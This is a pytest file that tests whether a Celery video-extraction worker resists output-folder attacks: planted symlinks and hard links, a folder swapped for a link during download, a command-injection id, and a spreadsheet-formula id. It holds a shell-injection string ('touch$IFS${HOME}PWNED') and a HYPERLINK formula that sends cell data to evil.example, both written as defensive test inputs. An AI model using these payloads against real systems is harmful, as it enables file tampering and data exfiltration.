"""Whoever can write inside an output folder cannot make a worker write outside it (issue 18).

Well-formed messages, sent with ``app.send_task`` as a producer would, to one real worker whose
roots are ``in/`` and ``out/``; the attacker works on the folders: links planted at the folder's
own files, a sub-folder swapped for a link while the video is being extracted (the worker paused
mid-download by the Hub replica), ids that collide with the folder's files or that a spreadsheet
would run as formulas. One worker serves every case, so the model is loaded once.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from celery import Celery
from celery.result import AsyncResult
from celery.states import READY_STATES

from tests.conftest import REPO_DIR, WorkerProcess, run_spec, wait_until, write_test_video
from tests.hub_replica import HubReplica, hub_env
from vfx_tasks.extract.recipe import Recipe
from vfx_tasks.outputs.index import read_index
from vfx_tasks.outputs.manifest import manifest_for, write_manifest
from vfx_tasks.queue.app import EXTRACT_VIDEO_TASK, create_app
from vfx_tasks.queue.job import Job
from vfx_tasks.queue.ledger import Ledger
from vfx_tasks.queue.processes.redis_server import RedisServer
from vfx_tasks.settings import Settings

pytestmark = pytest.mark.slow

HUB_REPO = "attacker/doors"
HELD_VIDEO = "race/v.mp4"


@dataclass
class Box:
    """A shared machine: a worker, its roots, a folder outside them, a Hub replica."""

    inputs: Path
    out: Path
    outside: Path
    hub: HubReplica
    app: Celery
    ledger: Ledger
    worker: WorkerProcess

    def send(self, output_dir: Path, relative_id: str, *, video_path: str | None = None,
             labels: dict[str, Any] | None = None) -> tuple[AsyncResult, Job]:
        """Queue one well-formed task, as vfx-enqueue would (the run id made from its settings)."""
        job = Job.create(run_spec(output_dir), relative_id=relative_id,
                         video_path=video_path or str(self.inputs / "v.mp4"), labels=labels)
        return self.app.send_task(EXTRACT_VIDEO_TASK, kwargs=job.to_message()), job

    def wait(self, *results: AsyncResult) -> None:
        wait_until(lambda: all(r.state in READY_STATES for r in results), f"the tasks:\n{self.worker.log()}")

    def failure(self, job: Job) -> dict[str, str]:
        return self.ledger.entries(job.run_id, "failed")[job.relative_id]


@pytest.fixture(scope="module")
def box(pretrained_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    base = tmp_path_factory.mktemp("shared-box")
    inputs, out, outside = base / "in", base / "out", base / "outside"
    write_test_video(inputs / "v.mp4", width=96, height=64, num_frames=16)
    replica = base / "replica"
    (replica / HELD_VIDEO).parent.mkdir(parents=True)
    shutil.copy(inputs / "v.mp4", replica / HELD_VIDEO)
    out.mkdir()
    outside.mkdir()
    with RedisServer() as server, HubReplica() as hub:
        hub.add_revision(HUB_REPO, "main", replica)
        env = hub_env(hub, base, dict(os.environ))
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO_DIR), env.get("PYTHONPATH", "")]))
        env.update(
            VFX_BROKER_URL=server.url, VFX_RESULT_BACKEND="", VFX_PRETRAINED_DIR=str(pretrained_dir),
            VFX_DEVICE="cpu", VFX_INPUT_ROOTS=str(inputs), VFX_OUTPUT_ROOTS=str(out), VFX_MAX_RETRIES="0",
        )
        worker = WorkerProcess(env, base / "worker.log", "box@%h")
        app = create_app(Settings.from_env({}, broker_url=server.url))
        try:
            yield Box(inputs, out, outside, hub, app, Ledger.from_url(server.url), worker)
        finally:
            worker.stop()


def files_under(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def test_links_planted_at_the_folders_own_files_stop_the_task_before_it_reads_or_writes(box: Box) -> None:
    # Given a shell rc file outside the roots, and output folders where someone planted
    rc = box.outside / "rc"
    rc.write_text("# my shell settings\n")
    planted = {name: box.out / "planted" / name for name in ("index-link", "dev-zero", "huge", "hard-link")}
    for folder in planted.values():
        folder.mkdir(parents=True)
    # an index.csv linking to the rc file (the reported attack),
    (planted["index-link"] / "index.csv").symlink_to(rc)
    # a manifest linking to /dev/zero (read to the end, it fills the memory),
    (planted["dev-zero"] / "vfx-run.json").symlink_to("/dev/zero")
    # a manifest of 2 MiB (a real one takes 2 kB),
    (planted["huge"] / "vfx-run.json").write_bytes(b" " * (2 << 20))
    # and an index.csv that is a hard link to the rc file,
    os.link(rc, planted["hard-link"] / "index.csv")
    before = files_under(box.out)
    # when a task is queued into each, one with an id that is also a shell command,
    sent = {name: box.send(folder, "x;touch$IFS${HOME}PWNED;#" if name == "index-link" else "v")
            for name, folder in planted.items()}
    box.wait(*(result for result, _ in sent.values()))
    # then each fails at once as unsafe_file, naming the file and what is wrong with it,
    expected = {"index-link": "index.csv is a symbolic link", "dev-zero": "vfx-run.json is a symbolic link",
                "huge": "vfx-run.json holds 2097152 bytes", "hard-link": "index.csv has 2 names (hard links)"}
    for name, (result, job) in sent.items():
        assert result.state == "FAILURE", (name, result.state, result.result)
        reason = box.failure(job)
        assert reason["code"] == "unsafe_file" and expected[name] in reason["message"], (name, reason)
    # the rc file is untouched, and nothing was written in the folders (no features, no rows).
    assert rc.read_text() == "# my shell settings\n"
    assert files_under(box.out) == before
    assert not list(box.outside.parent.rglob("*PWNED*"))


def test_a_folder_swapped_for_a_link_during_the_extraction_is_not_written_through(box: Box) -> None:
    # Given a task whose output goes to out/race/sub/, a real folder when the worker checks it,
    folder = box.out / "race"
    (folder / "sub").mkdir(parents=True)
    hold = box.hub.hold(HELD_VIDEO)
    result, job = box.send(folder, "sub/evil", video_path=f"hf://datasets/{HUB_REPO}@main/{HELD_VIDEO}",
                           labels={"split": "train"})
    # when, while the worker is fetching the video (its checks done), sub/ becomes a link out of the roots,
    assert hold.arrived.wait(120), box.worker.log()
    (folder / "sub").rename(folder / "sub-was-here")
    (folder / "sub").symlink_to(box.outside, target_is_directory=True)
    hold.released.set()
    box.wait(result)
    # then the write stops at the link: the task fails as unsafe_file, and nothing lands outside.
    assert result.state == "FAILURE", result.result
    reason = box.failure(job)
    assert reason["code"] == "unsafe_file" and "sub is a symbolic link" in reason["message"], reason
    assert not [p for p in box.outside.iterdir() if p.name.startswith("evil")]


def test_ids_that_collide_with_the_folders_files_are_refused_and_formula_ids_escaped(box: Box) -> None:
    # Given an output folder with its manifest,
    folder = box.out / "names"
    write_manifest(folder, manifest_for(Recipe(model="i3d", crop_type="center", num_clips_per_video=1),
                                        pretrained_dir=None))
    manifest = (folder / "vfx-run.json").read_bytes()
    # when videos named like the folder's own files come with labels (a Hub file vfx-run.mp4),
    # and one whose name a spreadsheet would run as a formula,
    reserved = [box.send(folder, name, labels={"split": "train"})
                for name in ("vfx-run", "VFX-Export", ".vfx-tmp-v")]
    formula = '=HYPERLINK("evil.example?"&A1,"open")'
    good, _ = box.send(folder, formula, labels={"note": "@SUM(1+1)"})
    box.wait(good, *(result for result, _ in reserved))
    # then the first are refused, naming the reason, and the manifest is untouched,
    for result, job in reserved:
        assert result.state == "FAILURE", (job.relative_id, result.result)
        reason = box.failure(job)
        assert reason["code"] == "untrusted_message" and "reserved" in reason["message"], reason
    assert (folder / "vfx-run.json").read_bytes() == manifest
    # and the formula is done, its cells quoted in index.csv and read back as they were.
    assert good.state == "SUCCESS", good.result
    lines = (folder / "index.csv").read_text().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(\"\"evil.example?"), lines[1]
    row = read_index(folder)[formula]
    assert row.relative_id == formula and row.labels == {"note": "@SUM(1+1)"}
